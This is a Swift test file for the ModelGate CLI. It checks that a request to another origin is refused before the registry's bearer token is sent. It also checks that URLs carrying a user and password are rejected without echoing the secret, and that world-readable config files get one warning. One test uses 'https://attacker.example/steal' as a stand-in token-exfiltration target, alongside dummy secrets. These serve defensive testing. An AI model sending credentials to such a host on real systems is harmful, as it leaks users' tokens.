import Foundation
import ModelGateCore
import Testing

/// Issue 15: hostile input reaching the CLI (registries' answers, configs, raw requests).
@Suite("Reliability: attacks — CLI")
struct ReliabilityAttacksCLITests {
    static let config = """
        registries:
          - name: ml
            kind: mlflow
            url: http://127.0.0.1:1/mlflow
            auth:
              type: bearer
              token: tok-s3cret-value
        """

    // Item 14: `modelgate request` with an absolute URL on another origin would have sent the registry's token there.
    @Test func anAbsoluteURLOnAnotherOriginIsRefusedBeforeAnythingIsSent() throws {
        let cli = try CLI()
        try cli.writeConfig(Self.config)
        for arguments in [["request", "ml", "GET", "https://attacker.example/steal"], ["request", "ml", "GET", "http://127.0.0.1:2/x", "--dry-run"]] {
            let result = try cli.run(arguments: arguments)
            #expect(result.status == 1, "\(arguments)")
            #expect(result.stderr.contains("not the registry's own origin"), "\(result.stderr)")
            #expect(!result.stderr.contains("tok-s3cret-value") && !result.stdout.contains("tok-s3cret-value"))
            #expect(!result.stderr.contains("failed to connect") && !result.stderr.contains("TLS"), "nothing was sent")
        }
        // The registry's own origin is accepted (shown with --dry-run, the token masked).
        let own = try cli.run("request", "ml", "GET", "http://127.0.0.1:1/mlflow/api/2.0/x", "--dry-run")
        #expect(own.status == 0, "\(own.stderr)")
        #expect(own.stdout.hasPrefix("GET http://127.0.0.1:1/mlflow/api/2.0/x"))
        #expect(!own.stdout.contains("tok-s3cret-value"))
    }
}

extension ReliabilityAttacksCLITests {
    func chmod(_ cli: CLI, _ name: String, _ mode: Int) throws {
        try FileManager.default.setAttributes(
            [.posixPermissions: mode], ofItemAtPath: cli.directory.appendingPathComponent(name).path)
    }

    // Item 15: a password in a registry URL was accepted and could surface wherever the URL is shown.
    @Test(arguments: ["url", "endpoint"])
    func aURLWithUserAndPasswordIsRefusedWithoutEchoingIt(key: String) throws {
        let cli = try CLI()
        let registry = key == "url"
            ? "    kind: mlflow\n    url: https://alice:hunter2-pass@mlflow.example.test/\n"
            : "    kind: sagemaker\n    region: us-east-1\n    endpoint: https://alice:hunter2-pass@sm.example.test\n"
        try cli.writeConfig("registries:\n  - name: a\n" + registry)
        try chmod(cli, "modelgate.yaml", 0o600)
        let result = try cli.run("registries")
        #expect(result.status == 1, "config errors exit 1, like every other config error")
        #expect(result.stderr.contains("modelgate.yaml:"), "\(result.stderr)")
        #expect(result.stderr.contains("registries[0].\(key)"), "\(result.stderr)")
        #expect(result.stderr.contains("must not hold credentials"))
        #expect(!result.stderr.contains("hunter2-pass") && !result.stdout.contains("hunter2-pass"))
    }

    // Item 15: a config file others can read holds tokens and passwords: warned about, once.
    @Test func aConfigFileReadableByOthersGetsOneWarning() throws {
        let cli = try CLI()
        try cli.writeConfig("registries:\n  - name: a\n    kind: mlflow\n    url: http://127.0.0.1:1\n")
        try chmod(cli, "modelgate.yaml", 0o644)
        let shared = try cli.run("registries")
        #expect(shared.status == 0, "a warning, not an error: \(shared.stderr)")
        let warnings = shared.stderr.components(separatedBy: "\n").filter { $0.hasPrefix("warning:") && $0.contains("modelgate.yaml") }
        #expect(warnings.count == 1, "\(shared.stderr)")
        #expect(warnings.first?.contains("chmod 600") == true)
        try chmod(cli, "modelgate.yaml", 0o600)
        let private_ = try cli.run("registries")
        #expect(!private_.stderr.contains("warning:"), "\(private_.stderr)")
    }
}
